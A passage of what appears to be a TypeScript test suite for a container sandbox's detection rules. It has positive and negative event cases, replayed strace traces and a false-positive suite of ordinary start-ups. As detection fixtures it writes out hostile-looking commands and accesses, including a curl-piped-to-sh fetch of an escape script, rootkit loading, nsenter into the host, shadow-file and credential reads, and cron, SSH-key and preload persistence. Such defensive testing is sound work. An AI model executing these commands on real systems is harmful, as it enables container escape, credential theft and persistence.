    positive: [sys('ptrace', { request: 'PTRACE_TRACEME', pid: 0 }, { exe: '/usr/local/bin/escape' }, 'EPERM', -1)],
    negative: [sys('ptrace', { request: 'PTRACE_ATTACH', pid: 1 }), sys('ptrace', { request: 'PTRACE_TRACEME', pid: 0 }, { exe: '/usr/bin/strace' })],
  },
  {
    rule: 'Kernel Module Load Attempt',
    positive: [
      sys('init_module', { length: 0, uargs: '' }, {}, 'EPERM', -1),
      sysFd('finit_module', { fd: 4, uargs: '', flags: '0' }, { num: 4, type: 'file', name: '/tmp/x.ko' }, {}, 'EPERM', -1),
      exec(['insmod', '/tmp/rootkit.ko'], { exe: '/sbin/insmod' }),
    ],
    negative: [exec(['lsmod'], { exe: '/sbin/lsmod' }), open('/proc/modules', 'O_RDONLY')],
  },
  {
    rule: 'BPF Program Load Attempt',
    positive: [sys('bpf', { cmd: 'BPF_PROG_LOAD' }, {}, 'EPERM', -1)],
    negative: [sys('bpf', { cmd: 'BPF_MAP_LOOKUP_ELEM' }, {}, 'EPERM', -1)],
  },
  {
    rule: 'Namespace Creation Attempt',
    positive: [sys('unshare', { flags: 'CLONE_NEWNS|CLONE_NEWUSER' }, { exe: '/usr/local/bin/escape' }, 'EPERM', -1), sys('clone', { flags: 'CLONE_NEWUSER|CLONE_NEWPID|SIGCHLD' }, {}, 'EPERM', -1)],
    negative: [
      sys('clone', { flags: 'CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD' }, {}, 12, 12),
      sys('unshare', { flags: 'CLONE_NEWUSER|CLONE_NEWPID' }, { exe: '/opt/google/chrome/chrome' }, 0, 0),
      sys('unshare', { flags: 'CLONE_FS' }, {}, 0, 0),
    ],
  },
  {
    rule: 'Namespace Join Attempt',
    positive: [sysFd('setns', { fd: 3, nstype: '0' }, { num: 3, type: 'file', name: '/proc/1/ns/mnt' }, {}, 'EPERM', -1), exec(['nsenter', '-t', '1', '-m', '-u', '-i', '-n', 'sh'])],
    negative: [open('/proc/1/ns/mnt', 'O_RDONLY'), exec(['/usr/bin/env'])],
  },
  {
    rule: 'Mount Attempt',
    positive: [sys('mount', { dev: 'none', dir: '/mnt', type: 'tmpfs', flags: '0', data: 'size=1m' }, {}, 'EPERM', -1), exec(['mount', '-t', 'proc', 'proc', '/mnt'], { exe: '/bin/mount' })],
    negative: [exec(['mount'], { exe: '/bin/mount' }), open('/proc/self/mounts', 'O_RDONLY')],
  },
  {
    rule: 'Host Filesystem or Cgroup Mount Attempt',
    positive: [sys('mount', { dev: 'cgroup', dir: '/tmp/cg', type: 'cgroup', flags: '0', data: 'rdma' }, {}, 'EPERM', -1), sys('mount', { dev: '/dev/sda1', dir: '/mnt', type: 'ext4', flags: '0' }, {}, 'EPERM', -1)],
    negative: [sys('mount', { dev: 'none', dir: '/mnt', type: 'tmpfs', flags: '0' }, {}, 'EPERM', -1)],
  },
  {
    rule: 'Kernel Callback File Write',
    positive: [
      openFailed('/proc/sys/kernel/core_pattern', 'O_WRONLY|O_TRUNC', 'EROFS', 30),
      open('/tmp/cg/release_agent', 'O_WRONLY|O_TRUNC', {}),
      open('/sys/fs/cgroup/x/notify_on_release', 'O_WRONLY', {}),
    ],
    negative: [open('/proc/sys/kernel/core_pattern', 'O_RDONLY'), open('/proc/sys/net/core/somaxconn', 'O_RDONLY')],
  },
  {
    rule: 'Host Root Access via Procfs',
    positive: [open('/proc/1/root/etc/shadow', 'O_RDONLY'), sys('chroot', { path: '/proc/1/root' }, {}, 'EPERM', -1), open('/proc/42/root/etc/hostname', 'O_RDONLY')],
    negative: [open('/proc/1/cgroup', 'O_RDONLY'), open('/proc/self/root/etc/hosts', 'O_RDONLY'), sys('chdir', { path: '/app' })],
  },
  {
    rule: 'Container Escape or Recon Tool Launched',
    positive: [exec(['/tmp/linpeas.sh'], { exe: '/tmp/linpeas.sh' }), exec(['sh', '-c', 'curl -sL http://10.66.66.66/deepce.sh | sh'], { exe: '/bin/sh' }), exec(['amicontained'])],
    negative: [exec(['ps', 'aux'], { exe: '/bin/ps' }), exec(['/usr/local/bin/app'])],
  },
  {
    rule: 'Reconnaissance Command Chain',
    positive: [
      exec(['sh', '-c', 'whoami; id; uname -a; cat /etc/passwd'], { exe: '/bin/sh' }),
      exec(['bash', '-c', 'id && uname -a && ip addr'], { exe: '/bin/bash' }),
      exec(['sh', '-c', 'cat /proc/1/cgroup; capsh --print'], { exe: '/bin/sh' }),
    ],
    negative: [
      exec(['sh', '-c', 'id -u app || adduser -D app'], { exe: '/bin/sh' }),
      exec(['sh', '-c', 'hostname; exec nginx -g "daemon off;"'], { exe: '/bin/sh' }),
      exec(['whoami']),
      exec(['sh', '-c', 'android-sdk-install && widget-build'], { exe: '/bin/sh' }),
    ],
  },
  {
    rule: 'Shell Spawned by Web Server',
    positive: [exec(['sh', '-c', 'whoami'], { exe: '/bin/sh', parents: [parent('php-fpm8', [], '/usr/sbin/php-fpm8')] })],
    negative: [
      exec(['sh', '-c', 'convert in.png out.jpg'], { exe: '/bin/sh', parents: [parent('php-fpm8', [], '/usr/sbin/php-fpm8')] }),
      exec(['sh', '-c', 'whoami'], { exe: '/bin/sh', parents: [ENTRYPOINT] }),
    ],
  },
  {
    rule: 'Sandbox Process Limit Reached',
    positive: [sandboxEvent('pids_limit_hit', { limit: 64, count: 12 })],
    negative: [sandboxEvent('oom_kill'), sys('clone', { flags: 'SIGCHLD' }, {}, 'EAGAIN', -11)],
  },
  {
    rule: 'Sandbox Out-of-Memory Kill',
    positive: [sandboxEvent('oom_kill', { count: 1 })],
    negative: [sandboxEvent('pids_limit_hit'), sandboxEvent('window_timeout')],
  },
  {
    rule: 'Sandbox Observation Window Ended',
    positive: [sandboxEvent('window_timeout', { windowMs: 30000 })],
    negative: [sandboxEvent('oom_kill'), sys('procexit', { status: 0, ret: 0 })],
  },
  {
    rule: 'Runtime Binary Overwrite Attempt',
    positive: [
      openFailed('/proc/self/exe', 'O_WRONLY|O_TRUNC', 'ETXTBSY', 26),
      open('/proc/7/exe', 'O_RDONLY|O_PATH', { exe: '/tmp/exploit' }),
      openFailed('/proc/12/exe', 'O_WRONLY', 'ETXTBSY', 26),
    ],
    negative: [open('/proc/self/exe', 'O_RDONLY|O_CLOEXEC', { exe: '/usr/local/bin/app' }), open('/proc/7/cmdline', 'O_RDONLY'), open('/usr/local/bin/app', 'O_RDONLY')],
  },
  {
    rule: 'Raw Device or Kernel Memory Access',
    positive: [
      openFailed('/dev/sda', 'O_RDONLY', 'ENOENT', 2),
      open('/dev/mem', 'O_RDWR|O_SYNC'),
      openFailed('/dev/nvme0n1p1', 'O_RDONLY', 'EACCES', 13),
      sys('mknodat', { dirfd: -100, path: '/tmp/sda', mode: 'S_IFBLK|0600', dev: 'makedev(0x8, 0)' }),
    ],
    negative: [open('/dev/null', 'O_WRONLY'), open('/dev/urandom', 'O_RDONLY'), open('/dev/shm/sem.x', 'O_RDWR|O_CREAT'), sys('mknodat', { dirfd: -100, path: '/tmp/fifo', mode: 'S_IFIFO|0600' })],
  },
  {
    rule: 'Other Process Memory Read',
    positive: [
      open('/proc/1/environ', 'O_RDONLY', { exe: '/bin/cat' }),
      open('/proc/42/mem', 'O_RDWR', { exe: '/tmp/inject' }),
      sys('process_vm_readv', { pid: 42 }, { exe: '/tmp/dump' }, 4096),
    ],
    negative: [
      open('/proc/self/environ', 'O_RDONLY'),
      open('/proc/1/cmdline', 'O_RDONLY', { exe: '/bin/ps' }),
      open('/proc/42/status', 'O_RDONLY', { exe: '/bin/ps' }),
      sys('process_vm_readv', { pid: 42 }, {}, 'EPERM', -1),
    ],
  },
  {
    rule: 'Process Masquerading as Kernel Thread',
    positive: [
      sys('prctl', { option: 'PR_SET_NAME', arg2_str: 'kworker/0:2' }, { exe: '/tmp/.x' }),
      sys('prctl', { option: 'PR_SET_NAME', arg2_str: '[ksoftirqd/1]' }, { exe: '/usr/bin/python3' }),
      execArgv0('[kworker/u8:1]', '/var/tmp/.cache/xmr'),
      execArgv0('kthreadd', '/usr/local/bin/agent'),
    ],
    negative: [
      sys('prctl', { option: 'PR_SET_NAME', arg2_str: 'worker-1' }),
      sys('prctl', { option: 'PR_SET_NAME', arg2_str: 'nginx' }),
      sys('prctl', { option: 'PR_SET_NAME', arg2_str: 'GC Thread#0' }, { exe: '/usr/lib/jvm/bin/java' }),
      sys('prctl', { option: 'PR_SET_PDEATHSIG', arg2_str: 'SIGKILL' }),
      exec(['/usr/sbin/nginx', '-g', 'daemon off;'], { exe: '/usr/sbin/nginx' }),
      execArgv0('postgres', '/usr/lib/postgresql/15/bin/postgres'),
    ],
  },
  {
    rule: 'Running Executable Deleted',
    positive: [
      sys('unlink', { path: '/tmp/.x' }, { exe: '/tmp/.x' }),
      sys('unlinkat', { dirfd: -100, name: '/var/tmp/agent', flags: 0 }, { exe: '/var/tmp/agent' }),
    ],
    negative: [
      sys('unlink', { path: '/tmp/app.pid' }, { exe: '/usr/local/bin/app' }),
      sys('unlink', { path: '/tmp/.x' }, { exe: '/bin/rm' }),
      sys('unlink', { path: '/tmp/.x' }, { exe: '/tmp/.x' }, 'EACCES', -13),
    ],
  },
  {
    rule: 'Kernel Parameter Modification Attempt',
    positive: [
      openFailed('/proc/sys/kernel/randomize_va_space', 'O_WRONLY|O_CREAT|O_TRUNC', 'EROFS', 30),
      openFailed('/proc/sys/kernel/yama/ptrace_scope', 'O_WRONLY', 'EROFS', 30),
      exec(['sysctl', '-w', 'kernel.randomize_va_space=0'], { exe: '/sbin/sysctl' }),
    ],
    negative: [
      open('/proc/sys/net/core/somaxconn', 'O_RDONLY', { exe: '/usr/bin/redis-server' }),
      exec(['sysctl', '-n', 'net.core.somaxconn'], { exe: '/sbin/sysctl' }),
      openFailed('/proc/sys/kernel/core_pattern', 'O_WRONLY|O_TRUNC', 'EROFS', 30),
    ],
  },
  {
    rule: 'io_uring Instance Created',
    positive: [sys('io_uring_setup', { entries: 8 }, { exe: '/tmp/.r' }, 3)],
    negative: [sys('io_uring_setup', { entries: 8 }, {}, 'EPERM', -1), sys('epoll_create1', { flags: 'EPOLL_CLOEXEC' }, {}, 3)],
  },
  {
    rule: 'Sandbox or Virtualization Check',
    positive: [
      open('/sys/class/dmi/id/product_name', 'O_RDONLY', { exe: '/tmp/.x' }),
      sys('access', { name: '/.dockerenv', mode: 'F_OK' }, {}, 'ENOENT', -2),
      sys('newfstatat', { dirfd: -100, path: '/.dockerenv', flags: 0 }),
      openFailed('/proc/scsi/scsi', 'O_RDONLY', 'ENOENT', 2),
    ],
    negative: [open('/sys/class/net/eth0/address', 'O_RDONLY'), sys('access', { name: '/etc/passwd', mode: 'R_OK' }), sys('newfstatat', { dirfd: -100, path: '/etc/hosts', flags: 0 })],
  },
  // lures.yaml and sandbox-tells.yaml (issue 11)
  {
    rule: 'Credential Lure Read',
    positive: [
      withLures(open('/root/.aws/credentials', 'O_RDONLY', { exe: '/tmp/stealer' })),
      withLures(open('/home/app/.npmrc', 'O_RDONLY|O_CLOEXEC', { exe: '/usr/bin/node', name: 'node' })),
      withLures(open('/run/secrets/kubernetes.io/serviceaccount/token', 'O_RDONLY', { exe: '/bin/cat' })),
    ],
    negative: [
      withLures(open('/root/.aws/credentials', 'O_RDONLY', { exe: '/usr/local/bin/aws' })),
      withLures(open('/home/app/.npmrc', 'O_RDONLY', { exe: '/usr/bin/npm' })),
      open('/root/.aws/credentials', 'O_RDONLY', { exe: '/tmp/stealer' }), // the image's own file: no lure there
      withLures(open('/root/.aws/config', 'O_RDONLY', { exe: '/tmp/stealer' })),
    ],
  },
  {
    rule: 'Container Tell Check',
    positive: [open('/proc/1/cgroup', 'O_RDONLY', { exe: '/tmp/x' }), open('/proc/1/sched', 'O_RDONLY', { exe: '/bin/cat' })],
    negative: [open('/proc/1/cgroup', 'O_RDONLY', { exe: '/bin/ps' }), open('/proc/1/stat', 'O_RDONLY', { exe: '/tmp/x' }), openFailed('/proc/1/cgroup', 'O_RDONLY', 'EACCES', 13)],
  },
  {
    rule: 'Own Cgroup or Mount Table Read',
    positive: [open('/proc/self/cgroup', 'O_RDONLY|O_CLOEXEC', { exe: '/tmp/x' }), open('/proc/self/mountinfo', 'O_RDONLY', { exe: '/usr/local/bin/app' })],
    negative: [open('/proc/self/cgroup', 'O_RDONLY|O_CLOEXEC', { exe: '/usr/lib/jvm/bin/java' }), open('/proc/self/status', 'O_RDONLY', { exe: '/tmp/x' })],
  },
  {
    rule: 'DMI or Hypervisor Probe',
    positive: [open('/sys/class/dmi/id/product_uuid', 'O_RDONLY', { exe: '/tmp/x' }), open('/sys/hypervisor/uuid', 'O_RDONLY')],
    negative: [open('/sys/class/dmi/id/product_name', 'O_RDONLY'), open('/sys/class/net/lo/address', 'O_RDONLY')],
  },
  {
    rule: 'Virtualization Detection Tool Run',
    positive: [exec(['systemd-detect-virt', '--container']), exec(['dmidecode', '-s', 'system-manufacturer'], { exe: '/usr/sbin/dmidecode' })],
    negative: [exec(['uname', '-a'], { exe: '/bin/uname' }), exec(['lscpu'])],
  },
  {
    rule: 'Userfaultfd Created',
    positive: [sys('userfaultfd', { flags: 'O_CLOEXEC|O_NONBLOCK' }, { exe: '/tmp/exp' }, 3), open('/dev/userfaultfd', 'O_RDWR|O_CLOEXEC')],
    negative: [sys('userfaultfd', { flags: 'O_CLOEXEC' }, {}, 'EPERM', -1), sys('eventfd2', { initval: 0, flags: 'EFD_CLOEXEC' }, {}, 3)],
  },
  {
    // sandbox-profiles/rules/probe.yaml: both probes emit compat_syscall for i386 (int 0x80) and x32 calls.
    rule: '32-bit or x32 Syscall ABI Used',
    positive: [sys('compat_syscall', { abi: 'i386', nr: 5, syscall: 'open' }, { exe: '/usr/local/bin/implant' }), sys('compat_syscall', { abi: 'x32', nr: 1073741826 })],
    negative: [sys('open', { name: '/etc/hosts', flags: 'O_RDONLY' }), sys('personality', { persona: 'PER_LINUX32' })],
  },
  ...INTEGRITY_CASES,
];

/** execve whose argv[0] (Falco proc.exe) differs from the executable's path. */
function execArgv0(argv0: string, path: string): EvalContext {
  const c = exec([path], { exe: path });
  c.proc.exe = argv0;
  c.proc.args = [argv0];
  return c;
}

function makeExecveat(): EvalContext {
  const c = exec(['kworker', 'echo', 'pwned'], { exe: '/memfd:kworker (deleted)', name: 'memfd:kworker', exeFromMemfd: true });
  c.event.type = 'execveat';
  c.event.args = { dirfd: 3, pathname: '', args: 'echo pwned', flags: 'AT_EMPTY_PATH' };
  c.fd = { num: 3, type: 'memfd', name: 'memfd:kworker', nameraw: 'kworker', connected: false, isServer: false, nameChanged: false };
  return c;
}

const ALL_CASES: Case[] = [...CASES, ...ATTACK_COVERAGE_CASES];

describe('each shipped rule: positive and negative cases', () => {
  it('covers every shipped rule', () => {
    // The files whose cases live here; the other shipped files (network.yaml, …) are tested beside their feature.
    const here = ['/quarantine-rules.yaml', '/lures.yaml', '/sandbox-tells.yaml', '/probe.yaml', '/integrity.yaml', '/attack-coverage.yaml'];
    const own = compileRules(sources.filter((s) => here.some((f) => s.name.endsWith(f)))).ruleNames;
    expect(ALL_CASES.map((c) => c.rule).sort()).toEqual([...own].sort());
    for (const c of ALL_CASES) {
      expect({ rule: c.rule, pos: c.positive.length > 0, neg: c.negative.length > 0 }).toEqual({ rule: c.rule, pos: true, neg: true });
    }
  });

  describe.each(ALL_CASES.map((c) => [c.rule, c] as const))('%s', (_name, c) => {
    it.each(c.positive.map((ctx, i) => [i, ctx] as const))('fires on positive #%i', (_i, ctx) => {
      expect(fired(ctx)).toContain(c.rule);
    });
    it.each(c.negative.map((ctx, i) => [i, ctx] as const))('stays quiet on negative #%i', (_i, ctx) => {
      expect(fired(ctx)).not.toContain(c.rule);
    });
  });

  it('renders output fields (no unresolved %field left for a typical match)', () => {
    const [m] = rules.evaluate(shadowRead).filter((x) => x.rule === 'Password Hash File Read');
    expect(m!.output).toContain('file=/etc/shadow');
    expect(m!.output).toContain('proc=shadow-reader');
    expect(m!.output).not.toMatch(/%[a-z]/);
  });
});

// ------------------------------------------------------------------------------------------------
// Captured traces of the sample images (test/samples), replayed through the real strace parser
// and state tracker (captured by __fixtures__/capture.sh).
// ------------------------------------------------------------------------------------------------

const sandbox = (image: string): SandboxMetadata => ({
  containerId: 'f00dfeedbeef0123456789abcdef', containerName: 'q-sample', image: `quarantine-samples/${image}:latest`,
  imageRepository: `quarantine-samples/${image}`, imageTag: 'latest', privileged: false, mounts: [],
});
const trace = (name: string, image = name, uid?: number): EvalContext[] =>
  replayStrace(readFileSync(`${FIXTURES}${name}.strace`, 'utf8'), sandbox(image), uid !== undefined ? { uid, gid: uid } : undefined);
const rulesOn = (ctxs: EvalContext[]): Set<string> => new Set(ctxs.flatMap((c) => fired(c)));

describe('captured sample traces', () => {
  const malicious: [string, string[]][] = [
    ['shadow-reader', ['Password Hash File Read']],
    ['revshell', ['Outbound Socket Redirected to Standard Streams', 'Outbound Connection Attempt', 'Interactive Shell Without Terminal', 'Shell History Tampered']],
    ['etc-writer', ['Dynamic Linker Preload Modified', 'Account Database Modified']],
    ['memfd-exec', ['Fileless Execution From Memory', 'Executable Written to Memory File']],
    ['dropper', ['Drop and Execute', 'Execution From Temporary Directory', 'Hidden File Executed', 'Executable Bit Set in Temporary Directory']],
    ['miner-connect', ['Mining Pool Connection Attempt', 'Cloud Metadata Service Contact', 'Outbound Connection Attempt']],
    ['cron-persist', ['Cron Job Written', 'SSH Authorized Keys Modified']],
    ['stealth-implant', ['Sandbox or Virtualization Check', 'Process Masquerading as Kernel Thread', 'Other Process Memory Read', 'Running Executable Deleted']],
    ['escape-probe', ['Runtime Binary Overwrite Attempt', 'Raw Device or Kernel Memory Access', 'Kernel Parameter Modification Attempt']],
  ];
  it.each(malicious)('%s gives its findings', (name, expected) => {
    const found = rulesOn(trace(name));
    for (const r of expected) expect({ r, found: found.has(r) }).toEqual({ r, found: true });
  });

  it.each(malicious)('%s has a finding at error or above', (name) => {
    const worst = Math.min(...trace(name).flatMap((c) => rules.evaluate(c).map((m) => rank(m.priority))));
    expect(worst).toBeLessThanOrEqual(rank('error'));
  });

  it.each<[string, string]>([
    ['hello', 'hello'], ['tmpwriter', 'tmpwriter'], ['server', 'server'], ['shell-script', 'shell-script'],
    ['benign-webserver', 'shell-script'], ['benign-waitfor', 'shell-script'],
  ])('benign %s: nothing above notice', (name, image) => {
    expect(aboveNotice(trace(name, image))).toEqual([]);
  });

  it('benign user-app (USER 1000): no finding at all', () => {
    expect([...rulesOn(trace('user-app', 'user-app', 1000))]).toEqual([]);
  });

  it('the entrypoint-script and web-server traces match no rule at all', () => {
    expect([...rulesOn(trace('shell-script'))]).toEqual([]);
    expect([...rulesOn(trace('server'))]).toEqual([]);
  });
});

// ------------------------------------------------------------------------------------------------
// False positives: realistic benign start-up sequences, hand-built where we have no image.
// ------------------------------------------------------------------------------------------------

describe('relative paths through the real parser and tracker (fs.path.*)', () => {
  // strace -f -ttt -yy lines as the probe writes them; the first execve is the entrypoint.
  const run = (...lines: string[]): EvalContext[] =>
    replayStrace(['500 1.000000 execve("/bin/sh", ["sh", "-c", "x"], []) = 0', ...lines]
      .map((l, i) => (i === 0 ? l : `500 1.${String(i).padStart(6, '0')} ${l}`)).join('\n') + '\n', sandbox('attacker'));
  const findings = (ctxs: EvalContext[], type: string): string[] => ctxs.filter((c) => c.event.type === type).flatMap((c) => fired(c));

  it('cd /var/log && rm syslog; rm through a directory fd; cd .. && truncate', () => {
    const ctxs = run(
      'chdir("/var/log") = 0',
      'unlinkat(AT_FDCWD</var/log>, "syslog", 0) = 0',
      'openat(AT_FDCWD, "/var/log/nginx", O_RDONLY|O_NONBLOCK|O_CLOEXEC|O_DIRECTORY) = 3</var/log/nginx>',
      'unlinkat(3</var/log/nginx>, "access.log", 0) = 0',
      'chdir("/var/log/nginx/..") = 0',
      'truncate("wtmp", 0) = 0',
    );
    expect(findings(ctxs, 'unlinkat')).toEqual(['Log File Cleared', 'Log File Cleared']);
    expect(findings(ctxs, 'truncate')).toEqual(['Log File Cleared']);
    const [m] = rules.evaluate(ctxs.find((c) => c.event.type === 'unlinkat')!);
    expect(m!.output).toContain('path=/var/log/syslog');
  });

  it('mv into /usr/bin, ln -s into /usr/local/bin, chmod u+s and chmod +x with relative paths', () => {
    const ctxs = run(
      'chdir("/tmp") = 0',
      'renameat2(AT_FDCWD, "kworker", AT_FDCWD, "../usr/bin/kworker", RENAME_NOREPLACE) = 0',
      'symlinkat("/tmp/kworker", AT_FDCWD, "/usr/local/bin/../bin/sudo") = 0',
      'fchmodat(AT_FDCWD, "kworker", 04755) = 0',
      'chmod("payload", 0755) = 0',
    );
    expect(findings(ctxs, 'renameat2')).toContain('Write Below Binary Directory');
    expect(findings(ctxs, 'symlinkat')).toContain('Write Below Binary Directory');
    expect(findings(ctxs, 'fchmodat')).toEqual(expect.arrayContaining(['Setuid or Setgid Bit Set', 'Executable Bit Set in Temporary Directory']));
    expect(findings(ctxs, 'chmod')).toEqual(['Executable Bit Set in Temporary Directory']);
    const [m] = rules.evaluate(ctxs.find((c) => c.event.type === 'fchmodat')!).filter((x) => x.rule === 'Setuid or Setgid Bit Set');
    expect(m!.output).toContain('file=/tmp/kworker');
  });

  it('persistence by relative rename: cron spool, authorized_keys, ld.so.preload; a write to a kernel callback file by relative open', () => {
    const ctxs = run(
      'chdir("/var/spool/cron/crontabs") = 0',
      'rename("/tmp/job", "root") = 0',
      'chdir("/root/.ssh") = 0',
      'rename("k.tmp", "authorized_keys") = 0',
      'chdir("/etc") = 0',
      'linkat(AT_FDCWD, "/tmp/evil.so.list", AT_FDCWD, "ld.so.preload", 0) = 0',
      'chdir("/proc/sys/kernel") = 0',
      'openat(AT_FDCWD, "core_pattern", O_WRONLY|O_TRUNC) = -1 EROFS (Read-only file system)',
    );
    expect(findings(ctxs, 'rename')).toEqual(['Cron Job Written', 'SSH Authorized Keys Modified']);
    expect(findings(ctxs, 'linkat')).toEqual(['Dynamic Linker Preload Modified']);
    expect(findings(ctxs, 'openat')).toEqual(['Kernel Callback File Write']);
  });

  it('relative paths that resolve elsewhere stay quiet', () => {
    const ctxs = run(
      'chdir("/var/log") = 0',
      'unlinkat(AT_FDCWD, "../run/app.pid", 0) = 0',
      'chdir("/usr/bin") = 0',
      'symlinkat("busybox", AT_FDCWD, "/tmp/sh") = 0',
      'rename("../../tmp/a", "../../tmp/b") = 0',
      'chmod("../../app/run.sh", 0755) = 0',
    );
    expect(ctxs.slice(1).flatMap((c) => fired(c))).toEqual([]);
  });
});

describe('false-positive suite: ordinary start-ups match nothing above notice', () => {
  const EP = ENTRYPOINT;
  const NGINX_MASTER = parent('nginx', ['-g', 'daemon off;'], '/usr/sbin/nginx');
  const sequences: Record<string, EvalContext[]> = {
    'entrypoint script (sh running ls/cat/sed/env/id, templating its own config)': [
      exec(['/bin/sh', '/docker-entrypoint.sh', 'nginx', '-g', 'daemon off;'], { exe: '/bin/sh' }),
      open('/docker-entrypoint.sh', 'O_RDONLY', { exe: '/bin/sh' }),
      exec(['ls', '-la', '/docker-entrypoint.d/'], { exe: '/bin/ls', parents: [EP] }),
      exec(['cat', '/etc/os-release'], { exe: '/bin/cat', parents: [EP] }),
      open('/etc/os-release', 'O_RDONLY', { exe: '/bin/cat', parents: [EP] }),
      exec(['env'], { exe: '/usr/bin/env', parents: [EP] }),
      exec(['id', '-u'], { exe: '/usr/bin/id', parents: [EP] }),
      open('/etc/passwd', 'O_RDONLY|O_CLOEXEC', { exe: '/usr/bin/id', parents: [EP] }),
      open('/etc/group', 'O_RDONLY|O_CLOEXEC', { exe: '/usr/bin/id', parents: [EP] }),
      exec(['sed', '-i', 's/listen 80/listen 8080/', '/etc/nginx/conf.d/default.conf'], { exe: '/bin/sed', parents: [EP] }),
      open('/etc/nginx/conf.d/sedAbc123', 'O_RDWR|O_CREAT|O_EXCL', { exe: '/bin/sed', parents: [EP] }, '0600'),
      sys('rename', { oldpath: '/etc/nginx/conf.d/sedAbc123', newpath: '/etc/nginx/conf.d/default.conf' }, { exe: '/bin/sed', parents: [EP] }),
      exec(['envsubst'], { exe: '/usr/bin/envsubst', parents: [EP] }),
      open('/etc/nginx/conf.d/app.conf', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/bin/sh', parents: [EP] }, '0666'),
      exec(['sh', '-c', 'id -u app >/dev/null 2>&1 || adduser -D -u 1000 app'], { exe: '/bin/sh', parents: [EP] }),
      exec(['adduser', '-D', '-u', '1000', 'app'], { exe: '/bin/adduser', parents: [EP] }),
      open('/etc/passwd', 'O_WRONLY|O_CREAT|O_APPEND', { exe: '/bin/adduser', parents: [EP] }),
      open('/etc/shadow', 'O_RDWR', { exe: '/bin/adduser', parents: [EP] }),
      open('/home/app/.profile', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/bin/adduser', parents: [EP] }),
      sys('chown', { path: '/home/app', uid: 1000, gid: 1000 }, { exe: '/bin/chown', parents: [EP] }),
      sys('fchmodat', { dirfd: -100, filename: '/docker-entrypoint.d/10-listen.sh', mode: '0755' }, { exe: '/bin/chmod', parents: [EP] }),
      exec(['nc', '-z', '-w', '1', 'db', '5432'], { exe: '/usr/bin/nc', parents: [EP] }),
      connect('10.66.66.66', 5432, { exe: '/usr/bin/nc', parents: [EP] }),
      exec(['whoami'], { exe: '/usr/bin/whoami', parents: [EP] }),
    ],
    'privilege drop with gosu / su-exec / setpriv': [
      exec(['gosu', 'app', 'node', 'server.js'], { exe: '/usr/local/bin/gosu', parents: [EP] }),
      open('/etc/passwd', 'O_RDONLY|O_CLOEXEC', { exe: '/usr/local/bin/gosu', parents: [EP] }),
      open('/etc/group', 'O_RDONLY|O_CLOEXEC', { exe: '/usr/local/bin/gosu', parents: [EP] }),
      sys('setgroups', {}, { exe: '/usr/local/bin/gosu' }),
      sys('setgid', { gid: 1000 }, { exe: '/usr/local/bin/gosu' }),
      sys('setuid', { uid: 1000 }, { exe: '/usr/local/bin/gosu' }),
      exec(['node', 'server.js'], { exe: '/usr/local/bin/node', uid: 1000, parents: [EP] }),
      exec(['su-exec', 'redis', 'redis-server'], { exe: '/sbin/su-exec', parents: [EP] }),
      exec(['setpriv', '--reuid=1000', '--regid=1000', '--init-groups', 'id'], { exe: '/usr/bin/setpriv', parents: [EP] }),
    ],
    'web server start (nginx: pid file, logs, workers, listening socket)': [
      exec(['nginx', '-g', 'daemon off;'], { exe: '/usr/sbin/nginx', parents: [EP] }),
      open('/etc/nginx/nginx.conf', 'O_RDONLY', { exe: '/usr/sbin/nginx' }),
      open('/etc/ssl/private/nginx.key', 'O_RDONLY', { exe: '/usr/sbin/nginx' }),
      open('/var/log/nginx/error.log', 'O_WRONLY|O_CREAT|O_APPEND|O_CLOEXEC', { exe: '/usr/sbin/nginx' }, '0644'),
      open('/var/log/nginx/access.log', 'O_WRONLY|O_CREAT|O_APPEND|O_CLOEXEC', { exe: '/usr/sbin/nginx' }, '0644'),
      open('/run/nginx.pid', 'O_RDWR|O_CREAT|O_TRUNC', { exe: '/usr/sbin/nginx' }, '0644'),
      open('/var/cache/nginx/client_temp', 'O_RDONLY|O_DIRECTORY', { exe: '/usr/sbin/nginx' }),
      sysFd('socket', { domain: 'AF_INET', type: 'SOCK_STREAM|SOCK_NONBLOCK', proto: 'IPPROTO_IP' }, { num: 6, type: 'ipv4', name: '' }, { exe: '/usr/sbin/nginx' }, 6, 6),
      sysFd('bind', { fd: 6, addr: '0.0.0.0:80' }, { num: 6, type: 'ipv4', name: '' }, { exe: '/usr/sbin/nginx' }),
      sysFd('listen', { fd: 6, backlog: 511 }, { num: 6, type: 'ipv4', name: '0.0.0.0:80', sip: '0.0.0.0', sport: 80, isServer: true }, { exe: '/usr/sbin/nginx' }),
      sys('setgid', { gid: 101 }, { exe: '/usr/sbin/nginx', parents: [NGINX_MASTER] }),
      sys('setuid', { uid: 101 }, { exe: '/usr/sbin/nginx', parents: [NGINX_MASTER] }),
      sys('prctl', { option: 'PR_SET_DUMPABLE' }, { exe: '/usr/sbin/nginx', parents: [NGINX_MASTER] }),
      sysFd('accept4', { listenfd: 6, fd: 7 }, { num: 7, type: 'ipv4', name: '10.0.0.9:50000->0.0.0.0:80', isServer: true, connected: true }, { exe: '/usr/sbin/nginx' }, 7, 7),
    ],
    'apache httpd start': [
      exec(['httpd-foreground'], { exe: '/usr/local/bin/httpd-foreground', parents: [EP] }),
      sys('unlink', { path: '/usr/local/apache2/logs/httpd.pid' }, { exe: '/bin/rm' }),
      exec(['httpd', '-DFOREGROUND'], { exe: '/usr/local/apache2/bin/httpd' }),
      open('/usr/local/apache2/logs/httpd.pid', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/usr/local/apache2/bin/httpd' }, '0644'),
      open('/proc/self/fd/1', 'O_WRONLY|O_APPEND|O_CREAT', { exe: '/usr/local/apache2/bin/httpd' }),
    ],
    'package manager during start (apt-get install, dpkg writing /usr and /etc, maintainer scripts)': [
      exec(['apt-get', 'install', '-y', 'curl'], { exe: '/usr/bin/apt-get', parents: [EP] }),
      open('/var/lib/apt/lists/lock', 'O_RDWR|O_CREAT|O_NOFOLLOW', { exe: '/usr/bin/apt-get' }, '0640'),
      exec(['dpkg', '--unpack', '/var/cache/apt/archives/curl.deb'], { exe: '/usr/bin/dpkg', parents: [APT, EP] }),
      open('/usr/bin/curl.dpkg-new', 'O_WRONLY|O_CREAT|O_EXCL', { exe: '/usr/bin/dpkg', parents: [APT, EP] }, '0'),
      sys('rename', { oldpath: '/usr/bin/curl.dpkg-new', newpath: '/usr/bin/curl' }, { exe: '/usr/bin/dpkg', parents: [APT, EP] }),
